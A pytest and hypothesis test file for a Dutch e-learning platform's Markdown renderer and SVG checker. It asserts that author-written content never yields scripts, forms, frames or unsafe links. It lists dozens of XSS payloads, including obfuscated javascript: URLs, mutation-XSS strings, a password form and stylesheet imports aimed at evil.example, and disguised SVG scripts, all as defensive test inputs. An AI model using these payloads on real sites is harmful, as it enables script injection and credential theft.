"""Nothing an author writes can become a script, a form, a frame or a link that runs something."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from elearning.content.media import contents_mistake
from elearning.content.policy import ATTRIBUTES, TAGS, allowed_value
from elearning.content.render import Context, render_markdown
from elearning.content.written import Fact, Media, Term
from tests.content.vectors import vectors

EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
CONTEXT = Context(
    "basis",
    facts={"a": Fact("a", EVIL, EVIL, 2024)},
    terms={"b": Term("b", EVIL, EVIL)},
    media={"basis/x/a.svg": Media("basis/x/a.svg", "0" * 64, "image/svg+xml", 9, 4, 3)},
)

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<div style="position:fixed;inset:0">x</div>',
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('ls') ?>",
    "[x](javascript:alert(1))",
    "[x](javascript:123)",
    "[x](vbscript:1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:1)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:1)",
    "[x](\x01javascript:1)",
    "[x](//evil.example)",
    "[x](/uitloggen)",
    "[x](https:evil.example)",
    "[x](https://a.example\\@evil.example)",
    "[x](<javascript:alert(1)>)",
    '[x](https://a.example "onmouseover=alert(1) ")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '!["onerror=alert(1) x="](a.svg)',
    "![[[feit:a]]](a.svg)",
    "![[[begrip:b]]](a.svg)",
    "[[[feit:a]]](https://a.example)",
    "[[feit:a]] [[begrip:b]] [[begrip:b|<img src=x onerror=alert(1)>]]",
    '[[begrip:b|x" onclick="alert(1)]]',
    "[[regio:contactpersoon]] ![[[regio:contactpersoon]]](a.svg)",
    "\ue0000\ue001 \ue000regio:contactpersoon\ue001",
    "&#xe000;0&#xe001; [[feit:a]] ![&#xe000;0&#xe001;](a.svg)",
    "{{ config }} {% include 'x' %} ${7*7} <%= 7 %>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```{.x onclick=alert(1)}\nx\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:1) |",
    "## kop {#login}\n\n### kop {: onclick=alert(1) }",
    "x{: onclick=alert(1) style=color:red }",
    "\x02wzxhzdk:0\x03 \x02amp\x03",
    "<a\x00href=javascript:1>x</a>",
    "<x onclick=alert(1)//`> `<img src=x onerror=alert(1)>`",
]

#: So that two processes can share the work.
PARTS = 4
OURS = {
    "span": {"class", "popover", "id", "role"},
    "button": {"type", "class", "popovertarget"},
    "a": {"href", "class", "rel"},
    "div": {"class", "role", "aria-label", "tabindex"},
    "th": {"scope"},
}
FIXED = {"tabindex": {"0"}, "scope": {"row"}, "role": {"region", "note"}}
CLASSES = {"el-fact", "el-fact__source", "el-fact__unchecked", "el-term", "el-pop", "el-scroll"}


class Judge(HTMLParser):
    """Looks at every tag and attribute that came out."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS | {"span", "button", "h2", "div"}, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()) | OURS.get(tag, set()), (tag, name)
            self.judge_value(tag, name, value or "")

    def judge_value(self, tag: str, name: str, value: str) -> None:
        if name == "class":
            assert value in CLASSES
        elif name in ("id", "popovertarget"):
            assert re.fullmatch(r"begrip-b-k-\d+", value)
        elif name == "href":
            assert value == "/bronnen#feit-a" or allowed_value(tag, name, value) == value, value
            assert unescape(value).split(":")[0] in {"https", "mailto", "tel"} or value.startswith("/")
        elif name == "src":
            assert value == f"/media/{'0' * 64}/a.svg"
        elif name in ("alt", "aria-label"):
            assert "\ue000" not in value
        elif name in FIXED:
            assert value in FIXED[name]

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"instruction {data}")


def judge(source: str, inline: bool = False) -> str:
    markup = render_markdown(source, CONTEXT, folder="basis/x", key="k", inline=inline)
    judge = Judge()
    judge.feed(markup)
    judge.close()
    return markup


FRAMES = [
    "{}",
    "- {}",
    "> {}",
    "### {}",
    "**{}**",
    "a {} b",
    "[{}](https://a.example)",
    "| a |\n|---|\n| {} |",
    "| {} |\n|---|\n| a |",
    "1. x\n   {}",
]


@pytest.mark.parametrize("frame", FRAMES)
@pytest.mark.parametrize("vector", VECTORS)
def test_a_known_attack_comes_out_harmless(vector, frame):
    judge(frame.format(vector) if "{{" not in vector else frame.replace("{}", vector))
    judge(frame.replace("{}", vector), inline=True)


@pytest.mark.parametrize("part", range(PARTS))
def test_attacks_by_the_thousand_come_out_harmless_in_every_position(part):
    """Each stands in another position than its neighbours, in another turn for each part of the run."""
    for number, vector in enumerate(vectors()):
        if number % PARTS == part:
            judge(FRAMES[number // PARTS % len(FRAMES)].replace("{}", vector), inline=number % 3 == 0)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(VECTORS) | st.text(max_size=5) | st.sampled_from(list("<>[]()!\"'`&;\n*_|\\")), max_size=8)
)
def test_attacks_glued_together_come_out_harmless(pieces):
    judge("".join(pieces))


def test_raw_html_is_shown_as_text():
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in judge("<script>alert(1)</script>")


def test_template_code_stays_as_it_was_written():
    assert "{{ config }} {% include 'x' %}" in unescape(judge("{{ config }} {% include 'x' %}"))


@pytest.mark.parametrize(
    "source", ["[1]: https://a.example", "[^1]: noot", "*[AB]: afkorting", "<!-- x -->", "<div>\nx\n</div>"]
)
def test_no_line_vanishes_in_rendering(source):
    words = re.findall(r"\w+", source)
    text = unescape(judge(f"voor\n\n{source}\n\nna"))
    assert all(word in text for word in ["voor", *words, "na"])


def drawn(inside: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{inside}</svg>'.encode()


@pytest.mark.parametrize(
    "drawing",
    [
        drawn("<script>x()</script>"),
        drawn('<x-y:script xmlns:x-y="http://www.w3.org/2000/svg">x()</x-y:script>'),
        drawn('<a href="&#106;avascript:x()">x</a>'),
        drawn('<a href="java\nscript:x()">x</a>'),
        drawn("<a href = ' vbscript:x()'>x</a>"),
        drawn('<use href="data:image/svg+xml,x"/>'),
        drawn('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="a.png"/>'),
        drawn('<h:img xmlns:h="http://www.w3.org/1999&#x2f;xhtml" src="a.png"/>'),
        drawn("<style>@import url(//evil.example/a.css)</style>"),
        drawn("<rect style=\"fill:url( 'https://evil.example/a')\"/>"),
        b'<?xml-stylesheet href="a.css"?>' + drawn(""),
        b'<?xml version="1.0" encoding="iso-2022-jp"?>' + drawn("<scr\x1b(Bipt>x()</scr\x1b(Bipt>"),
        ("\ufeff<!--" + b"<svg".decode("utf-16-le") + "-->" + drawn("<script>x()</script>").decode()).encode(
            "utf-16-le"
        ),
    ],
)
def test_a_drawing_that_does_anything_is_refused_however_it_is_hidden(drawing: bytes) -> None:
    assert contents_mistake(drawing, "beeld", "a.svg") is not None


@pytest.mark.parametrize(
    "inside",
    [
        '<use href="#glas"/><use xlink:href="#een-2"/><a href=""/>',
        '<image href="data:image/png;base64,AAAA"/><image href="foto_2.png"/>',
        '<rect fill="url(#verloop)" style="fill:url(#a)"/><text>Zus &amp; zo &lt; 3</text>',
    ],
)
def test_a_drawing_that_only_draws_is_taken(inside: str) -> None:
    assert contents_mistake(drawn(inside), "beeld", "a.svg") is None
